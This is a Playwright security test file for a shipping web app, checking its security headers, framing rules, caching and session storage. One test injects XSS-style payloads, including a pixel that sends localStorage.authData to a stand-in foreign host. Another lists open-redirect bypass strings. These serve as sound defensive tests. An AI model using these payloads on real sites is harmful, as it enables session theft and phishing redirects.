import type { Page, Response } from '@playwright/test';
import { openForeignSite } from './foreign-site.ts';
import { expect, signIn, test } from './journey.ts';

// Many pages one after the other.
test.setTimeout(240_000);

const superAdmin = 'super@demo.local';

/** Every page that looks different from the inside: forms, tables, charts, the map, an editor, a worker. */
const signedInPages = ['/ups', '/fedex', '/batch-query', '/myorder', '/ticket-center', '/personal'];
const consolePages = [
  '/admin',
  '/admin/users',
  '/admin/logs',
  '/admin/stats',
  '/admin/metrics',
  '/admin/security',
  '/admin/system-diagnosis',
  '/notification-management',
  '/ticket-management',
];

/** Notes what the browser rejected by the policy of any page that `page` opens. */
const watchRefusals = async (page: Page): Promise<readonly string[]> => {
  const refusals: string[] = [];
  await page.exposeFunction('noteRefusal', (refusal: string) => refusals.push(refusal));
  await page.addInitScript(`addEventListener('securitypolicyviolation', (event) =>
    noteRefusal(event.effectiveDirective + ' ' + event.blockedURI + ' at ' + location.pathname))`);
  return refusals;
};

const headersOf = (response: Response | null): Record<string, string> => response?.headers() ?? {};

/** Opens pages one after the other; each is shown whole, and the browser has nothing to reject. */
const openAll = async (page: Page, paths: readonly string[]): Promise<void> => {
  for (const path of paths) {
    const headers = headersOf(await page.goto(path));
    const policy = headers['content-security-policy'] ?? '';
    const scripts = policy.split(';').find((part) => part.startsWith('script-src ')) ?? 'none';
    expect(scripts, path).toBe("script-src 'self'");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(headers).toMatchObject({
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'DENY',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    });
    expect(headers['permissions-policy']).toContain('camera=()');
    await expect(page.getByRole('heading').first()).toBeVisible({ timeout: 60_000 });
    await expect(page.locator('[aria-busy="true"]')).toHaveCount(0, { timeout: 60_000 });
  }
};

test('no page asks for anything that its policy refuses', async ({ page, account }) => {
  const refusals = await watchRefusals(page);
  await openAll(page, ['/login', '/register', '/403']);
  await signIn(page, account);
  await openAll(page, signedInPages);
  expect(refusals).toEqual([]);
});

test('nor does the console, with its charts and its map', async ({ page }) => {
  const refusals = await watchRefusals(page);
  await signIn(page, superAdmin);
  await openAll(page, consolePages);
  expect(refusals).toEqual([]);
});

test('script that got into a page does not run, and sends nothing away', async ({ page, account }) => {
  const foreign = await openForeignSite();
  try {
    const refusals = await watchRefusals(page);
    await signIn(page, account);
    await page.evaluate(`(() => {
      const inline = document.createElement('script');
      inline.textContent = 'globalThis.ran = "inline"';
      const picture = document.createElement('div');
      picture.innerHTML = '<img src="/nothing.png" onerror="globalThis.ran = \\'handler\\'">';
      const loaded = document.createElement('script');
      loaded.src = '${foreign.address}/script.js';
      const pixel = new Image();
      pixel.src = '${foreign.address}/pixel.png?' + encodeURIComponent(localStorage.authData);
      const frame = document.createElement('iframe');
      frame.src = '${foreign.address}/frame';
      document.body.append(inline, picture, loaded, pixel, frame);
    })()`);
    for (const directive of ['script-src-elem', 'script-src-attr', 'img-src', 'frame-src'])
      await expect.poll(() => refusals.join('\n')).toContain(directive);
    // Not in the call itself, which a debugger may make whatever the policy says.
    const evaluated = await page.evaluate<string>(`new Promise((resolve) => setTimeout(() => {
      try { resolve(String(Function('return "ran"')())) } catch (error) { resolve(error.name) }
    }))`);
    expect(evaluated).toBe('EvalError');
    const sent = await page.evaluate<string>(
      `fetch('${foreign.address}/stolen').then(() => 'sent', (error) => error.name)`,
    );
    expect(sent).toBe('TypeError');
    expect(await page.evaluate(`String(globalThis.ran)`)).toBe('undefined');
    expect(foreign.asked).toEqual([]);
  } finally {
    await foreign.close();
  }
});

test('another site can neither frame the product, nor hold on to its window, nor read its files', async ({
  page,
  context,
  baseURL,
}) => {
  const foreign = await openForeignSite();
  try {
    await page.goto(foreign.address);
    await page.evaluate(`(() => {
      const frame = document.createElement('iframe');
      frame.src = '${baseURL ?? ''}/login';
      document.body.append(frame);
    })()`);
    await expect
      .poll(() => page.frames().map((frame) => frame.url()))
      .toContain('chrome-error://chromewebdata/');

    const opening = context.waitForEvent('page');
    await page.evaluate(`globalThis.opened = open('${baseURL ?? ''}/login'), undefined`);
    const opened = await opening;
    await expect(opened.getByRole('heading').first()).toBeVisible();
    await expect.poll(() => page.evaluate('opened.closed')).toBe(true);
    expect(await opened.evaluate('opener')).toBeNull();
    await opened.close();

    const picture = await page.evaluate(`new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve('shown');
      image.onerror = () => resolve('refused');
      image.src = '${baseURL ?? ''}/favicon.svg';
    })`);
    expect(picture).toBe('refused');
    const read = await page.evaluate(
      `fetch('${baseURL ?? ''}/api/v1/site').then(() => 'read', (error) => error.name)`,
    );
    expect(read).toBe('TypeError');
  } finally {
    await foreign.close();
  }
});

test('an address to come back to leads nowhere else, before the sign-in and after it', async ({
  page,
  account,
}) => {
  const foreign = await openForeignSite();
  try {
    const host = foreign.address.replace('http:', '');
    const wanted = (target: string): string => `/login?redirect=${encodeURIComponent(target)}`;
    await page.goto(wanted(`/.${host}/stolen`));
    await page.getByRole('textbox', { name: '用户名或邮箱' }).fill(account);
    await page.getByRole('textbox', { name: '密码' }).fill('Waybill-demo-2026');
    await page.getByRole('button', { name: '登录', exact: true }).click();
    await expect(page).toHaveURL(/\/ups$/);
    const targets = [
      foreign.address,
      host,
      `/\\${host.slice(2)}`,
      `/\t${host}`,
      `/.${host}`,
      `/ups/..${host}`,
      `/%2e${host}`,
      'javascript:document.title="ran"',
    ];
    for (const target of targets) {
      await page.goto(wanted(target));
      await expect(page, target).toHaveURL(/\/ups$/);
    }
    expect(foreign.asked).toEqual([]);
  } finally {
    await foreign.close();
  }
});

test('built files are kept for ever, pages and answers never; a browser keeps the session and no secret else', async ({
  page,
  context,
  account,
}) => {
  const kept = new Map<string, string>();
  page.on('response', (response) => {
    const { pathname } = new URL(response.url());
    if (response.ok()) kept.set(pathname, headersOf(response)['cache-control'] ?? 'none');
  });
  await signIn(page, account);
  await page.goto('/myorder');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  const of = (start: string): string[] => [
    ...new Set([...kept].filter(([path]) => path.startsWith(start)).map(([, value]) => value)),
  ];
  await expect.poll(() => of('/api/')).toEqual(['no-store']);
  expect(of('/assets/')).toEqual(['public, max-age=31536000, immutable']);
  expect(kept.get('/myorder')).toBe('no-store');

  expect(await context.cookies()).toEqual([]);
  const stored = await page.evaluate<Record<string, string>>('({ ...localStorage, ...sessionStorage })');
  expect(Object.keys(stored)).toEqual(expect.arrayContaining(['Authorization', 'authData', 'userData']));
  const secret = Object.entries(stored).filter(([, value]) =>
    /Waybill-demo-2026|password|wb_live_/i.test(value),
  );
  expect(secret).toEqual([]);
  const { token } = JSON.parse(stored['authData'] ?? '{}') as { token: string };
  const holders = Object.keys(stored).filter((key) => (stored[key] ?? '').includes(token));
  expect(holders.toSorted()).toEqual(['Authorization', 'authData']);

  const menu = page.getByRole('button', { name: '展开菜单' });
  if (await menu.isVisible()) await menu.click();
  // That of the menu asks first; the one of the header has no text.
  await page.getByText('退出登录', { exact: true }).click();
  await page.getByRole('dialog', { name: '退出确认' }).getByRole('button', { name: '确定' }).click();
  await expect(page).toHaveURL(/\/login/, { timeout: 60_000 });
  const left = await page.evaluate<string>('JSON.stringify({ ...localStorage, ...sessionStorage })');
  expect(left).not.toContain(token);
  expect(left).not.toContain(account);
  // The server hears of it in its own time.
  await expect
    .poll(async () => (await page.request.get('/api/v1/user/getUserInfo', { headers: { token } })).status())
    .toBe(401);
});

test.describe('on a phone', () => {
  test.use({
    userAgent:
      'Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1',
  });

  test('its pages ask for nothing that their policy refuses', async ({ page, account }) => {
    const refusals = await watchRefusals(page);
    await signIn(page, account, '/mobile/home');
    await openAll(page, ['/mobile/home', '/mobile/ups', '/mobile/fedex']);
    expect(refusals).toEqual([]);
  });
});
